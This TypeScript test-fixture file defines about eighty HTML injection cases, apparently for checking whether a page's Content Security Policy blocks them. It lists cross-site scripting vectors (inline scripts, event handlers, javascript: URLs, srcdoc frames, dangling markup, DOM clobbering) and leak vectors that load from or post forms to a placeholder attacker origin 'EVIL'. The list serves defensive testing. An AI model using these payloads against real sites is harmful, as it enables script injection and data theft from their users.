import type { Case } from './case.ts';

/** What an attacker writes into the page, as `{hit}`, and where. */
export interface InjectionCase extends Case {
  readonly markup: string;
  /** It navigates, or changes the page, and so gets one of its own. */
  readonly alone?: true;
  /** Without the policy it does not run in this browser either. */
  readonly inert?: true;
}
const attack = (name: string, markup: string, more: Partial<InjectionCase> = {}): InjectionCase => ({
  kind: 'attack',
  name,
  markup,
  ...more,
});
const inert = { inert: true } as const;
const alone = { alone: true } as const;

/** `HIT` calls the page's binding with the name of the case; `EVIL` is an origin of the attacker; `SELF` that of the page. */
export const injections: readonly InjectionCase[] = [
  attack('script', '<script>HIT</script>'),
  attack('script with an empty nonce', '<script nonce>HIT</script>'),
  attack('script with a guessed nonce', '<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">HIT</script>'),
  attack('script with a nonce in capitals of its name', '<script NONCE="x">HIT</script>'),
  attack('script of another host', '<script src="EVIL/hit.js?CASE"></script>'),
  attack('script of the host itself', '<script src="/hit.js?CASE"></script>'),
  attack('script from an upload of the host', '<script src="/upload.txt?CASE"></script>'),
  attack('script of a JSONP endpoint', '<script src="/jsonp?callback=HIT//"></script>'),
  attack('script in data', '<script src="data:text/javascript,HIT"></script>'),
  attack('module in data', '<script type=module src="data:text/javascript,HIT"></script>'),
  attack('module that imports', '<script type=module>import "/hit.js?CASE"</script>'),
  attack('handler of an image', '<img src=x onerror="HIT">'),
  attack('handler of svg', '<svg onload="HIT"></svg>'),
  attack('handler of details', '<details open ontoggle="HIT"></details>'),
  attack('handler of a video', '<video src=x onerror="HIT"></video>'),
  attack('handler of a style sheet', '<style onload="HIT">a{}</style>'),
  attack('handler of a link', '<link rel=stylesheet href="/style.css?CASE" onload="HIT">'),
  attack(
    'handler of an animation',
    '<style>@keyframes x{}</style><b style="animation:x" onanimationstart="HIT">x</b>',
    inert,
  ),
  attack('frame with javascript', '<iframe src="javascript:parent.HIT"></iframe>'),
  attack('frame with srcdoc', '<iframe srcdoc="<script>parent.HIT</script>"></iframe>'),
  attack(
    'frame with srcdoc and a handler',
    '<iframe srcdoc="<img src=x onerror=&quot;parent.HIT&quot;>"></iframe>',
  ),
  attack(
    'frame with srcdoc and a policy of its own',
    '<iframe srcdoc="<meta http-equiv=Content-Security-Policy content=&quot;script-src \'unsafe-inline\'&quot;><script>parent.HIT</script>"></iframe>',
  ),
  attack('frame with data', '<iframe src="data:text/html,<script>parent.HIT</script>"></iframe>', inert),
  attack('frame of an upload of the host', '<iframe src="/upload.html?CASE"></iframe>', alone),
  attack(
    'frame with a csp attribute',
    '<iframe csp="script-src \'unsafe-inline\'" srcdoc="<script>parent.HIT</script>"></iframe>',
    inert,
  ),
  attack('object with an upload', '<object data="/upload.html?CASE" type="text/html"></object>'),
  attack('embed with an upload', '<embed src="/upload.html?CASE" type="text/html">'),
  attack('object with svg', '<object data="/upload.svg?CASE" type="image/svg+xml"></object>'),
  attack('embed with svg', '<embed src="/upload.svg?CASE">'),
  attack('object with data', '<object data="data:text/html,<script>parent.HIT</script>"></object>', inert),
  attack('svg script', '<svg><script>HIT</script></svg>'),
  attack('svg script with href', '<svg><script href="/hit.js?CASE"></script></svg>'),
  attack('svg script with data', '<svg><script href="data:text/javascript,HIT"></script></svg>'),
  attack('svg use of a file of the host', '<svg><use href="/upload.svg?CASE#x"/></svg>', inert),
  attack('svg animation of a handler', '<svg><animate attributeName=x dur=1ms onbegin="HIT"/></svg>'),
  attack(
    'meta with a policy',
    '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'"><script>HIT</script>',
  ),
  attack('meta refresh to javascript', '<meta http-equiv=refresh content="0;url=javascript:HIT">', {
    ...alone,
    ...inert,
  }),
  attack('base element', '<base href="EVIL/">', alone),
  attack('link that is clicked', '<a class=click href="javascript:HIT">x</a>'),
  attack(
    'link with a target that is clicked',
    '<a class=click target=x href="javascript:opener.HIT">x</a>',
    inert,
  ),
  attack('link of svg that is clicked', '<svg><a class=click href="javascript:HIT"><text>x</text></a></svg>'),
  attack(
    'link of math that is clicked',
    '<math><mtext class=click href="javascript:HIT">x</mtext></math>',
    inert,
  ),
  attack('area that is clicked', '<map name=m><area class=click shape=default href="javascript:HIT"></map>'),
  attack('form with javascript', '<form action="javascript:HIT"><button class=click>x</button></form>'),
  attack('button with formaction', '<form><button class=click formaction="javascript:HIT">x</button></form>'),
  attack('handler that is clicked', '<b class=click onclick="HIT">x</b>'),
  attack(
    'import map that moves the module of the page',
    '<script type=importmap>{"imports":{"app":"/hit.js?CASE"}}</script>',
    inert,
  ),
  attack('preload that is a script', '<link rel=preload as=script href="/hit.js?CASE" onload="HIT">'),
  attack('modulepreload', '<link rel=modulepreload href="/hit.js?CASE" onload="HIT">'),
  attack(
    'speculation rules',
    '<script type=speculationrules>{"prerender":[{"source":"list","urls":["/upload.html?CASE"]}]}</script>',
    inert,
  ),
  attack('dangling script that eats the next nonce', '<script src="/hit.js?CASE" x="', { alone: true }),
  attack('dangling script in single quotes', "<script src='data:,HIT' x='", { alone: true, inert: true }),
  attack('dangling script with an attribute that ends in <script', '<script src=/hit.js?CASE a=<script ', {
    alone: true,
  }),
  attack('template that clobbers', '<form id=document><input name=body></form><script>HIT</script>'),
  attack('shadow root by markup', '<div><template shadowrootmode=open><script>HIT</script></template></div>'),
  attack(
    'handler in a shadow root',
    '<div><template shadowrootmode=open><img src=x onerror="HIT"></template></div>',
  ),
  attack('style sheet of another host', '<link rel=stylesheet href="EVIL/canary.css?CASE">'),
  attack('style attribute that loads', '<b style="background:url(EVIL/canary.png?CASE)">x</b>'),
  attack('style element that loads', '<style>i{background:url(EVIL/canary.png?CASE)}</style><i>x</i>'),
  attack('image of another host', '<img src="EVIL/canary.png?CASE">'),
  attack('image of another host by srcset', '<img srcset="EVIL/canary.png?CASE 1x">'),
  attack(
    'media of another host',
    '<video src="EVIL/canary.mp4?CASE"></video><audio src="EVIL/canary.mp3?CASE"></audio>',
  ),
  attack('poster of another host', '<video poster="EVIL/canary.png?CASE"></video>'),
  attack('frame of another host', '<iframe src="EVIL/canary.html?CASE"></iframe>'),
  attack('object of another host', '<object data="EVIL/canary.html?CASE"></object>'),
  attack(
    'track of another host',
    '<video crossorigin src="/a.mp4"><track default src="EVIL/canary.vtt?CASE"></video>',
    inert,
  ),
  attack('icon of another host', '<link rel=icon href="EVIL/canary.ico?CASE">', inert),
  attack('manifest of another host', '<link rel=manifest href="EVIL/canary.json?CASE">', inert),
  attack('prefetch of another host', '<link rel=prefetch href="EVIL/canary.js?CASE">'),
  attack('preload of another host', '<link rel=preload as=image href="EVIL/canary.png?CASE">'),
  attack(
    'form to another host',
    '<form method=post action="EVIL/canary.form?CASE"><button class=click>x</button></form>',
    alone,
  ),
  attack(
    'form of the page with a formaction',
    '<form method=post action="/save"><button class=click formaction="EVIL/canary.form?CASE">x</button></form>',
    alone,
  ),
  attack(
    'button that is bound to a form elsewhere',
    '<form id=f1 method=post action="/save"></form><button form=f1 formaction="EVIL/canary.form?CASE" class=click>x</button>',
    alone,
  ),
  attack('ping to another host', '<a class=click href="#" ping="EVIL/canary.ping?CASE">x</a>'),
  attack(
    'font of another host',
    '<style>@font-face{font-family:x;src:url(EVIL/canary.woff?CASE)}b{font-family:x}</style><b>x</b>',
  ),
  attack('import of a style sheet', '<style>@import "EVIL/canary.css?CASE";</style>'),
  attack('svg image of another host', '<svg><image href="EVIL/canary.png?CASE" /></svg>'),
  attack(
    'svg feImage of another host',
    '<svg><filter id=fi><feImage href="EVIL/canary.png?CASE"/></filter><rect width=9 height=9 filter="url(#fi)" /></svg>',
    inert,
  ),
];
